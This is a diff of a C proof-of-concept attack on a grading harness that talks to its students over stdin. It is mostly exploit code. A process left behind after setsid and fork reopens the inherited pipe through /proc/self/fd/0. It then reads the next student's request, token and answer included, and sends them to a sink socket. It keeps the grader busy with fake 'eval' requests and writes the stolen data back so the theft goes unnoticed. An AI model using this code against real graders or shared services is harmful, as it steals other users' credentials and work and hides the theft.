@@ -3,8 +3,8 @@
  * Goal:  the next student's request, with the token and the answer in it.
  * Means: standard input. A grader that talks to its shim over stdin and stdout, and starts students
  *        with its stdin, gives each of them the stream of requests. A process that is left behind
- * reads it while the grader is busy with a request that nobody but the attacker has made: an
- * inherited pipe can be opened again for writing. What was read is put back, and nobody misses it.
+ *        reads it while the grader is busy with a request that nobody but the attacker has made: an
+ *        inherited pipe can be opened again for writing. What was read is put back.
  *
  *     attacker --"run sleep"--> [ pipe ] --> grader: runs sleep for 200 ms
  *     shim -----"run student"-> [ pipe ] --> thief ---> 127.0.0.1
@@ -23,9 +23,9 @@
 #include <time.h>
 #include <unistd.h>
 
-#define BUFFER 8192 /* what a buffered reader takes at once: a frame of that size is taken alone   \
-		     */
-#define PATIENCE 3  /* seconds */
+/* What a buffered reader takes at once: a frame of that size is taken alone. */
+#define BUFFER	 8192
+#define PATIENCE 3 /* seconds */
 #define HEAD	 "Content-Length: 8168\r\n\r\n"
 
 static const char busy[] = "{\"jsonrpc\": \"2.0\", \"id\": 0, \"method\": \"eval\", \"params\": "
@@ -71,8 +71,7 @@ static _Noreturn void steal(int in, int sink)
 
 	setsid();
 	alarm(PATIENCE);
-	close(STDOUT_FILENO);
-	close(STDERR_FILENO);
+	close_range(STDOUT_FILENO, STDERR_FILENO, 0);
 	while ((body = take(request, sizeof(request)))) {
 		send(sink, body, strlen(body), MSG_NOSIGNAL);
 		if (!put(in, body) || !put(in, busy))
@@ -95,8 +94,10 @@ static enum claim run(const struct brief *b)
 	if (fstat(STDIN_FILENO, &st) || !S_ISFIFO(st.st_mode))
 		return denied("standard input is no stream of requests");
 	sink = dial(SOCK_STREAM, b->sink);
+	if (sink < 0)
+		return denied("connect");
 	in = open("/proc/self/fd/0", O_WRONLY | O_CLOEXEC);
-	if (sink < 0 || in < 0 || !put(in, busy))
+	if (in < 0 || !put(in, busy))
 		return denied("standard input");
 	child = fork();
 	if (!child)
